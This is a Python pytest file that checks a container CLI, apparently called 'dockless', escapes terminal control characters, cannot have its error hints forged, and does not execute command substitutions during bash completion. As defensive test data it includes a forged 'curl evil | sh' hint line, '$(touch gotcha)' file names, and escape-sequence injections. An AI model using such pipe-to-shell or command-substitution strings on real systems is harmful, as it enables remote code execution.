"""What others wrote (names, commands, labels, reasons, a registry's messages) drives no terminal and forges no line: whatever the verb."""

from __future__ import annotations

import ast
import dataclasses
import io
import json
import os
import pty
import subprocess
import sys
from collections.abc import Iterable
from pathlib import Path

import pytest

from dockless import doctor, sched
from dockless.base.text import escaped
from dockless.cli import main, report
from dockless.cli.jobs import _detail, print_queue
from dockless.cli.output import cut, err, json_text, out, print_json, status, table, warn
from dockless.errors import BadInput, DocklessError, RegistryError, SchedError
from dockless.sched.engine import faults
from dockless.sched.jobs import Attempt, Job, State

CLI = Path(report.__code__.co_filename).parent
RAW = "\x1b[2J\x07\x08\x7f\r\n\t\x85\x9b31m\u200b\u202e\u2066\u2028\ufeff\udcff[red]\\"
FORGED = "no such thing\n  hint: curl evil | sh\ndockless: all is well"


def harmless(text: str) -> bool:
    return all(line.isprintable() for line in text.split("\n"))


def test_one_printable_line():
    assert escaped("plain é 漢 [red] \\") == "plain é 漢 [red] \\"
    assert escaped(RAW) == r"\x1b[2J\x07\x08\x7f\r\n\t\x85\x9b31m\u200b\u202e\u2066\u2028\ufeff\udcff[red]" + "\\"
    assert all(escaped(chr(code)).isprintable() for code in range(0x110000))
    assert escaped(escaped(RAW)) == escaped(RAW)


@pytest.mark.parametrize(
    "printed",
    [
        lambda: out(RAW, RAW),
        lambda: err(RAW),
        lambda: warn(RAW, hint=RAW),
        lambda: table(("A", "B"), [(RAW, RAW)], indent="  "),
        lambda: print_json({RAW: [RAW]}),
        lambda: print_json({RAW: [RAW]}, indent=2),
        lambda: out(cut(RAW, 12)),
        lambda: out(*doctor.lines([doctor.Finding("x", "fail", RAW, f"one\n{RAW}")])),
    ],
)
def test_whatever_is_printed_is_escaped(capsys, printed):
    printed()
    said = capsys.readouterr()
    assert harmless(said.out + said.err) and (said.out + said.err)


def hostile(kind):
    """A record whose every text is hostile, whatever fields it gets in future."""
    record = kind.__new__(kind)
    for item in dataclasses.fields(kind):
        value = item.default if item.default is not dataclasses.MISSING else None
        kinds = str(item.type)
        if kinds == "str":
            value = RAW
        elif kinds.startswith("tuple[str"):
            value = (RAW, RAW)
        elif "int" in kinds or "float" in kinds:
            value = 3
        object.__setattr__(record, item.name, value)
    return record


def test_every_field_of_a_job(capsys):
    job = hostile(Job)
    object.__setattr__(job, "state", State.RUNNING)
    attempt = hostile(Attempt)
    object.__setattr__(attempt, "state", State.RUNNING)
    object.__setattr__(job, "attempts", (attempt,))
    print_queue([job], False)
    _detail(job, False)
    said = capsys.readouterr().out
    assert harmless(said) and said.count("\\x1b[2J") >= 6


def test_a_status_line_is_one_line(capsys):
    status(RAW)
    said = capsys.readouterr().err
    assert said.startswith("\r\x1b[K") and harmless(said.removeprefix("\r\x1b[K")) and "\n" not in said


def test_json_keeps_what_it_escapes():
    assert json.loads(json_text({"a": RAW})) == {"a": RAW} and json_text(RAW).isascii() and "\x7f" not in json_text(RAW)


@pytest.mark.parametrize(
    "error", [BadInput(FORGED), RegistryError(FORGED, status=500), OSError(FORGED), ValueError(FORGED), TimeoutError(FORGED)]
)
def test_a_message_cannot_forge_a_hint(capsys, error):
    error.add_note(FORGED)
    report(error, as_json=False)
    lines = capsys.readouterr().err.splitlines()
    assert [line for line in lines if line.startswith("  hint: curl") or line.startswith("dockless: all")] == []
    assert lines[0].startswith("dockless: ") and "no such thing\\n  hint: curl evil | sh\\ndockless: all is well" in lines[0]
    assert len([line for line in lines if line.startswith("  hint:")]) <= 1


def test_a_hint_cannot_forge_one_either(capsys):
    report(DocklessError("x", hint=FORGED), as_json=False)
    assert len(capsys.readouterr().err.splitlines()) == 2


def printing(files: Iterable[Path]) -> list[str]:
    """Every call that prints or writes to a stream."""
    found = []
    for path in files:
        for node in ast.walk(ast.parse(path.read_text())):
            if not isinstance(node, ast.Call):
                continue
            name = ast.unparse(node.func)
            if name == "print" or (name.startswith(("sys.stdout.", "sys.stderr.")) and name.endswith(("write", "writelines"))):
                found.append(f"{path.name}: {name}")
    return sorted(found)


def test_nothing_of_the_command_line_prints_past_the_output_module():
    """A new verb that calls print, or writes to a stream, is found here."""
    assert printing(CLI.glob("*.py")) == ["__init__.py: sys.stdout.write", *["output.py: sys.stderr.write"] * 2]  # the first: the version
    assert printing(CLI.parent.glob("*.py")) == []


def test_nothing_of_the_daemon_prints_past_its_log():
    """``daemon.py`` prints why it does not begin, a process of the daemon's own its answers."""
    assert printing(Path(sched.__file__).parent.rglob("*.py")) == ["daemon.py: print", "deleted_files.py: print", "faults.py: print"]


def test_the_daemons_log_is_escaped(capsys):
    faults.say(f"job 1 cannot start: {faults.describe(SchedError(RAW))}")
    said = capsys.readouterr().err
    assert harmless(said) and len(said.splitlines()) == 1


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "utf-8"])
@pytest.mark.parametrize("errors", ["strict", "surrogateescape"])
def test_a_stream_that_knows_few_characters(monkeypatch, encoding, errors):
    held = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(held, encoding=encoding, errors=errors))
    out("é 漢 \udce9 …")
    assert held.getvalue().decode(encoding).endswith("\n") and b"\\udce9" in held.getvalue()


@pytest.mark.parametrize("verb", ["run", "rm", "load", "queue", "images", "inspect", "pull", "cancel", "wait", "nonsense"])
@pytest.mark.parametrize("how", [[], ["--json"]])
def test_arguments_come_back_escaped(capsys, tmp_path, monkeypatch, verb, how):
    monkeypatch.setenv("DOCKLESS_HOME", str(tmp_path))
    assert main([verb, *how, RAW.replace("\x00", "")]) in (0, 125)
    said = capsys.readouterr()
    assert harmless(said.out + said.err)


@pytest.mark.parametrize("verb", ["load", "import"])
def test_completion_runs_nothing_that_a_file_is_called(tmp_path, verb):
    """``compgen -W`` expands its words as the shell does."""
    (tmp_path / "$(touch gotcha)").touch()
    assert "$(touch" in completed(tmp_path, verb)
    assert not (tmp_path / "gotcha").exists()


@pytest.mark.parametrize("verb", ["run", "logs", "inspect"])
def test_completion_runs_nothing_that_a_verb_prints(tmp_path, verb):
    (tmp_path / "bin").mkdir()
    fake = tmp_path / "bin" / "dockless"
    fake.write_text("#!/bin/sh\nprintf '%s\\n' '$(touch gotcha)' '`touch gotcha`' 'busybox:1'\n")
    fake.chmod(0o755)
    assert "busybox:1" in completed(tmp_path, verb)
    assert not (tmp_path / "gotcha").exists()


def completed(place: Path, verb: str) -> list[str]:
    from dockless.cli.completion import bash

    script = f'{bash()}\nCOMP_WORDS=(dockless {verb} ""); COMP_CWORD=2; _dockless; printf "%s\\n" "${{COMPREPLY[@]}}"'
    environment = {**os.environ, "PATH": f"{place}/bin:{os.environ['PATH']}"}
    done = subprocess.run(["bash", "-c", script], cwd=place, env=environment, capture_output=True, text=True, check=True)
    return done.stdout.splitlines()


def test_bars_show_markup_as_it_is():
    """rich reads [red] as a colour where it is told to."""
    source = """
from dockless.cli.bars import Bars
from dockless.images.progress import Progress
bars = Bars()
bars.step(Progress("[red]x", 1, 1, "sha256:[red]b\\x1b[J\\u202e", 1, 2, "downloading"))
bars._live.refresh()
bars.stop()
"""
    ours, theirs = pty.openpty()
    try:
        environment = {**os.environ, "TERM": "xterm", "COLUMNS": "120"}
        subprocess.run(
            [sys.executable, "-P", "-c", source], stdin=theirs, stdout=theirs, stderr=theirs, env=environment, check=True, timeout=60
        )
        os.set_blocking(ours, False)
        said = os.read(ours, 1 << 16).decode(errors="replace")
    finally:
        os.close(ours)
        os.close(theirs)
    assert "[red]b\\x1b" in said and "\u202e" not in said
